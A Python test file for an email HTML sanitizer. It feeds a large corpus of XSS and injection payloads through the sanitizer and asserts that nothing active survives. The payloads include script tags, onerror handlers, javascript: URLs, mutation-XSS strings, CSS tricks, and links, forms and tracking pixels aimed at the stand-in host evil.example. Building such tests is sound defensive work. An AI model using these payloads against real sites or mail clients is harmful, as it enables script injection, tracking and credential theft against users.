"""Nothing in the HTML of a mail runs, loads, sends or covers anything: a corpus of what was tried elsewhere, and of what is harmless."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callcart.integrations.mail.safe_html import Unshowable, make_safe

from .letters import got, html, mail

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)//>",
    '<img src="x" onerror="alert(1)" src="cid:a">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://ok.example" ping="https://evil.example" onclick="x()" target="_top">x</a>',
    '<area href="javascript:alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"><param name=a></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background-color:red;background-image:url(//evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="color:\\72\\65\\64;behavior:url(x.htc);-moz-binding:url(x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over everything</div>',
    '<div style="margin-top:-900px;color:red">x</div>',
    '<div style="width:99999px;font-size:5000px">x</div>',
    '<table background="https://evil.example/x.png"><tr><td background="//evil.example">x</td></tr></table>',
    '<img src="https://evil.example/pixel.gif?id=1">',
    '<img srcset="https://evil.example/x.png 1x" src="cid:a">',
    '<picture><source srcset="https://evil.example/x"></picture>',
    '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video><audio src=//evil.example>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img name="body" id="location"><a id="cookie" name="x">x</a>',
    '<div class="modal is-open btn-danger" id="app" data-hx-get="/x" hx-get="/x" hx-trigger="load">x</div>',
    '<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x>x</p>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=x?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    '<blockquote type="cite&quot; onclick=&quot;alert(1)">x</blockquote>',
    "<details open ontoggle=alert(1)>x</details>",
    '<isindex type=image src=1 onerror=alert(1)>',
    "<x onclick=alert(1)>x</x><marquee onstart=alert(1)>x</marquee>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='https://a.example/\"onmouseover=alert(1) x=\"'>x</a>",
]  # fmt: skip

_ALLOWED = """
a abbr b big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i
img ins kbd li mark ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var
"""
_TAGS = set(_ALLOWED.split())
_SILENT = {
    "style", "dir", "lang", "title", "alt", "width", "height", "color", "size", "face", "start", "type", "border", "cellpadding",
    "cellspacing", "align", "valign", "bgcolor", "colspan", "rowspan", "span", "data-src", "data-cid",
}  # fmt: skip


class Browser(HTMLParser):
    """Reads what goes to a page, and holds every tag and attribute against a list of its own."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, tag
        for name, value in attrs:
            text = value or ""
            if name == "class":
                assert text in {"quoted", "remote", "inline"}, text
            elif name == "href":
                assert tag == "a" and re.match(r"(https?|mailto|tel):", text), text
                assert {"target": "_blank", "rel": "noopener noreferrer nofollow"}.items() <= dict(
                    attrs
                ).items()
            elif name in {"target", "rel"}:
                assert tag == "a"
            else:
                assert name in _SILENT, name
            if name == "style":
                assert not re.search(
                    r"url|expression|position|[\\@<>]|-\d|behavior|binding", text, re.IGNORECASE
                ), text

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_pi = unknown_decl = handle_decl


def looked_at(text: str) -> None:
    browser = Browser()
    browser.feed(text)
    browser.close()
    # Nothing that loads by itself stands in any tag.
    assert not re.search(r"<[^<>]*\s(src|srcset|background|poster|data|on\w+)\s*=", text, re.IGNORECASE), text


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_corpus(attack: str) -> None:
    found = got(html(f"<p>before</p>{attack}"))
    looked_at(found.html)
    assert "before" in found.text
    quoted = got(html(f'<p>before</p><div class="gmail_quote">{attack}</div>'))
    looked_at(quoted.html)


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "<table>",
                "</table>",
                "<td>",
                "</p>",
                "<!--",
                "-->",
                '"',
                "'",
                ">",
                "<div>",
                "<select>",
                "</style>",
                "<title>",
            ]
        ),
        max_size=6,
    )
)
def test_the_corpus_mixed(attacks: list[str]) -> None:
    looked_at(make_safe("".join(attacks)).html)


@settings(max_examples=60)
@given(st.text(st.sampled_from("<>\"'=/!-a bscript:on(1)&#;x"), max_size=80))
def test_any_noise(noise: str) -> None:
    looked_at(make_safe(noise).html)


def test_utf7_is_text_by_the_time_it_is_made_safe() -> None:
    content = mail(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-b+AD4-x+ADw-/b+AD4-",
        head="Content-Type: text/html; charset=utf-7\n",
    )
    assert got(content).html == "<b>x</b>"


def test_what_is_harmless_stays() -> None:
    text = '<h2 align="center">Hi</h2><p style="color: red; text-align: left">a <b>b</b> <a href="mailto:x@y.example">c</a></p><table border="1"><tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    assert make_safe(text).html == text.replace(
        'example">', 'example" target="_blank" rel="noopener noreferrer nofollow">'
    )


def test_pictures_from_elsewhere_wait_to_be_asked_for() -> None:
    found = make_safe(
        '<img src="https://pics.example/a.png?x=1&amp;y=2" alt="A cup" width="40"><img src="http://t.example/p.gif" width=1 height=1>'
    )
    assert (
        found.html
        == '<img class="remote" data-src="https://pics.example/a.png?x=1&amp;y=2" alt="A cup" width="40">'
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 100_000,
        "<b>" * 1000 + "x",
        "<a " + "x=1 " * 5000 + ">",
        "x" * 600_000,
        "<span>" * 300 + "</span>" * 300,
    ],
)
def test_what_would_take_too_long_is_shown_as_text(hostile: str) -> None:
    with pytest.raises(Unshowable):
        make_safe(hostile)
    found = got(html(f"<p>before</p>{hostile}"))
    assert (found.html, found.text[:6]) == ("", "before")
    assert "Its layout could not be shown; this is its text." in found.notes


def test_what_is_allowed_takes_no_long_time() -> None:
    began = time.process_time()
    for text in (
        "<p>" * 20_000,
        "<li>" * 20_000,
        "<" * 50_000,
        "<table><tr><td>" * 60 + "<p>x" * 10_000,
        "<font color=red><p>" * 100,
    ):
        make_safe(text)
    assert time.process_time() - began < 5
